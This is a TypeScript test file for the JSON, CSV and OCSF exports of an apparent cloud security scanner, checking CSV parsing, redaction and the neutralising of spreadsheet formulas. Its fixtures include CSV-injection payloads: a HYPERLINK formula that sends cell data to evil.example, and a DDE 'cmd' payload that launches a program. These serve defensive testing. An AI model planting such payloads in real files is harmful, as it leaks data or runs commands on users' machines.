/**
 * JSON and CSV exports: what a client gets when they open the file in a tool or a spreadsheet.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { CSV_COLUMNS, csvField, toCsv, toJson } from '../../main/core/report/export.ts';
import { OCSF_VERSION, toOcsf, toOcsfEvent, type OcsfContext } from '../../main/core/export/ocsf.ts';
import { Redactor } from '../../main/core/report/redact.ts';
import type { Finding } from '../../shared/model/finding.ts';
import { ACCOUNT_ID, HOSTILE, SENSITIVE, finding, fullReportModel, sampleChecks, sampleFindings } from '../support/report-fixtures.ts';

/** A strict RFC 4180 parser: quoted fields, doubled quotes, CRLF record ends. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
        continue;
      }
      if (ch === '"') {
        quoted = false;
        i++;
        assert.ok(i === text.length || text[i] === ',' || text[i] === '\r', `text after a closing quote at ${i}`);
        continue;
      }
      field += ch;
      i++;
      continue;
    }
    if (ch === '"') {
      assert.equal(field, '', `quote inside an unquoted field at ${i}`);
      quoted = true;
    } else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r') {
      assert.equal(text[i + 1], '\n', 'records end with CRLF');
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      assert.ok(ch !== '\n', `bare LF outside quotes at ${i}`);
      field += ch;
    }
    i++;
  }
  assert.equal(quoted, false, 'unterminated quoted field');
  if (field !== '' || row.length) rows.push([...row, field]);
  return rows;
}

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tstarts with tab', '\rstarts with CR', "=cmd|' /C calc'!A0"];

function hostileFindings(): Finding[] {
  const meta = sampleChecks()[0]!;
  const names = [...Object.values(HOSTILE), ...FORMULAS, 'comma, "quote" and\r\nnewline', 'plain'];
  return [
    ...sampleFindings(),
    ...names.map((name, i) => finding(meta, { status: 'FAIL', name, message: `${name}\n${name}` }, 100 + i)),
  ];
}

/** What a spreadsheet user sees in the cell: the value, prefixed by ' when it would start a formula. */
const expectedCell = (value: string): string => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

test('JSON export parses back to the same findings, each with the framework requirements of its check', () => {
  const findings = hostileFindings();
  const json = toJson(findings);
  assert.deepEqual(JSON.parse(json), findings.map((f) => ({ ...f, frameworks: [] })));
  const checkId = findings[0]?.checkId ?? '';
  const mapped = JSON.parse(toJson(findings, new Map([[checkId, ['FSBP EC2.7', 'CIS 3.0 2.2.1']]]))) as Array<{ checkId: string; frameworks: string[] }>;
  for (const f of mapped) assert.deepEqual(f.frameworks, f.checkId === checkId ? ['FSBP EC2.7', 'CIS 3.0 2.2.1'] : []);
  assert.ok(json.startsWith('[\n  {'), 'pretty-printed array');
  assert.deepEqual(JSON.parse(toJson([])), []);
});

test('CSV export has the documented header and one row per finding', () => {
  const findings = hostileFindings();
  const rows = parseCsv(toCsv(findings));
  assert.deepEqual(rows[0], [
    'checkId', 'title', 'area', 'service', 'severity', 'status', 'message',
    'resourceId', 'resourceArn', 'resourceName', 'region', 'accountId', 'reasonKind', 'reasonCode',
    'acceptance', 'acceptanceExpiresAt', 'frameworks',
  ]);
  assert.equal(rows.length, findings.length + 1);
  for (const row of rows) assert.equal(row.length, CSV_COLUMNS.length);
});

test('CSV round-trips every value, including commas, quotes, newlines and hostile names', () => {
  const findings = hostileFindings();
  const rows = parseCsv(toCsv(findings)).slice(1);
  findings.forEach((f, i) => {
    const row = rows[i]!;
    const cell = (column: string): string => row[CSV_COLUMNS.indexOf(column as (typeof CSV_COLUMNS)[number])]!;
    assert.equal(cell('resourceName'), expectedCell(f.resourceName));
    assert.equal(cell('message'), expectedCell(f.message));
    assert.equal(cell('resourceArn'), f.resourceArn);
    assert.equal(cell('checkId'), f.checkId);
    assert.equal(cell('status'), f.status);
    assert.equal(cell('reasonKind'), f.reason?.kind ?? '');
    assert.equal(cell('reasonCode'), f.reason?.code ?? '');
  });
  const long = rows.find((r) => r[CSV_COLUMNS.indexOf('resourceName')] === HOSTILE.long);
  assert.ok(long, 'the 5,000-character name is exported whole');
  const notAssessed = rows.find((r) => r[CSV_COLUMNS.indexOf('status')] === 'NOT_ASSESSED');
  assert.equal(notAssessed?.[CSV_COLUMNS.indexOf('reasonKind')], 'permission-denied');
  assert.equal(notAssessed?.[CSV_COLUMNS.indexOf('reasonCode')], 'AccessDenied');
});

test('cells that a spreadsheet would run as formulas are neutralised', () => {
  const rows = parseCsv(toCsv(hostileFindings())).slice(1);
  const cells = rows.flat();
  for (const formula of FORMULAS) {
    assert.ok(cells.includes(`'${formula}`), `not neutralised: ${JSON.stringify(formula)}`);
  }
  for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `live formula cell: ${JSON.stringify(cell.slice(0, 40))}`);
  assert.equal(csvField('=1+1'), "'=1+1");
  assert.equal(csvField('-'), "'-");
  assert.equal(csvField('a=b'), 'a=b');
  assert.equal(csvField('=a,b'), `"'=a,b"`);
  assert.equal(csvField('say "hi"'), '"say ""hi"""');
  assert.equal(csvField(''), '');
});

test('an empty export is just the header', () => {
  assert.equal(toCsv([]), `${CSV_COLUMNS.join(',')}\r\n`);
});

test('CSV marks accepted and reopened failures and lists framework ids', () => {
  const findings = fullReportModel().findings;
  const rows = parseCsv(toCsv(findings, new Map([['s3-bucket-public-access-block', ['FSBP S3.8', 'CIS 3.0 2.1.4']]]))).slice(1);
  const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
  const accepted = rows.find((r) => r[col('checkId')] === 'iam-user-key-rotated' && r[col('status')] === 'FAIL');
  assert.equal(accepted?.[col('acceptance')], 'accepted');
  assert.equal(accepted?.[col('acceptanceExpiresAt')], '2026-09-30T00:00:00.000Z');
  assert.equal(rows.find((r) => r[col('checkId')] === 'guardduty-enabled')?.[col('acceptance')], 'expired');
  assert.equal(rows.find((r) => r[col('checkId')] === 's3-bucket-public-access-block')?.[col('frameworks')], 'FSBP S3.8; CIS 3.0 2.1.4');
});

function ocsfContext(): OcsfContext {
  return {
    scanId: 'scan-1',
    toolVersion: '0.1.0',
    time: '2026-03-14T09:41:55.000Z',
    partition: 'aws',
    checks: new Map(sampleChecks().map((c) => [c.id, c])),
    requirements: new Map([['s3-bucket-public-access-block', ['FSBP S3.8']]]),
    standards: new Map([['s3-bucket-public-access-block', ['AWS Foundational Security Best Practices v1.0.0']]]),
  };
}

test('OCSF export: one Compliance Finding (class 2003) per finding, with the fields a data lake indexes', () => {
  const findings = fullReportModel().findings;
  // The events are plain JSON; reading them untyped is what a data lake does.
  // eslint-disable-next-line @typescript-eslint/no-explicit-any
  const events = JSON.parse(toOcsf(findings, ocsfContext())) as Record<string, any>[];
  assert.equal(events.length, findings.length);
  for (const e of events) {
    assert.equal(e.class_uid, 2003);
    assert.equal(e.category_uid, 2);
    assert.equal(e.type_uid, 200301);
    assert.equal(e.activity_id, 1);
    assert.equal(e.metadata.version, OCSF_VERSION);
    assert.equal(e.metadata.product.name, 'Leasehold');
    assert.equal(e.time, Date.parse('2026-03-14T09:41:55.000Z'), 'time from the scan');
    assert.equal(e.cloud.provider, 'AWS');
    assert.equal(e.cloud.account.uid, ACCOUNT_ID);
    assert.equal(typeof e.cloud.region, 'string');
    assert.ok(Array.isArray(e.resources) && e.resources[0].uid);
    assert.match(e.finding_info.uid, /^leasehold-[0-9a-f]{32}$/);
    assert.ok([0, 1, 3, 99].includes(e.compliance.status_id));
    assert.ok([1, 2, 3, 4, 5].includes(e.severity_id));
  }
  assert.equal(new Set(events.map((e) => e.finding_info.uid)).size, events.length, 'finding uids are unique');
  const byCheck = (id: string, status?: string) => events.find((e) => e.compliance.control === id && (!status || e.status_code === status))!;
  const s3 = byCheck('s3-bucket-public-access-block', 'FAIL');
  assert.deepEqual([s3.severity_id, s3.severity, s3.compliance.status_id, s3.compliance.status], [5, 'Critical', 3, 'Fail']);
  assert.deepEqual(s3.compliance.requirements, ['FSBP S3.8']);
  assert.deepEqual(s3.compliance.standards, ['AWS Foundational Security Best Practices v1.0.0']);
  assert.ok(s3.evidences[0].data.excerpt.includes('OwnerId'));
  assert.match(s3.remediation.desc, /Block Public Access/);
  const accepted = byCheck('iam-user-key-rotated', 'FAIL');
  assert.deepEqual([accepted.status_id, accepted.status], [3, 'Suppressed'], 'an accepted risk is suppressed, not hidden');
  const notAssessed = byCheck('rds-instance-encrypted');
  assert.deepEqual([notAssessed.compliance.status_id, notAssessed.compliance.status], [0, 'Unknown']);
  assert.match(notAssessed.compliance.status_detail, /permission-denied: AccessDenied/);
  assert.equal(byCheck('vpc-flow-logs-enabled').compliance.status_id, 99);
  assert.equal(byCheck('ssm-instance-managed', 'PASS').compliance.status, 'Pass');
  assert.deepEqual(toOcsfEvent(findings[0]!, ocsfContext()), toOcsfEvent(findings[0]!, ocsfContext()), 'deterministic');
});

test('redacted exports carry masks, never the raw account IDs, ARNs, IP or e-mail addresses', () => {
  const redactor = new Redactor([ACCOUNT_ID]);
  const findings = redactor.value(fullReportModel().findings);
  for (const text of [toJson(findings), toCsv(findings), toOcsf(findings, ocsfContext())]) {
    for (const secret of [...SENSITIVE.accounts, ...SENSITIVE.ips, ...SENSITIVE.emails, `arn:aws:ec2:eu-west-1:${ACCOUNT_ID}`]) assert.ok(!text.includes(secret), `${secret} leaked`);
    assert.ok(text.includes('account-1'));
  }
});
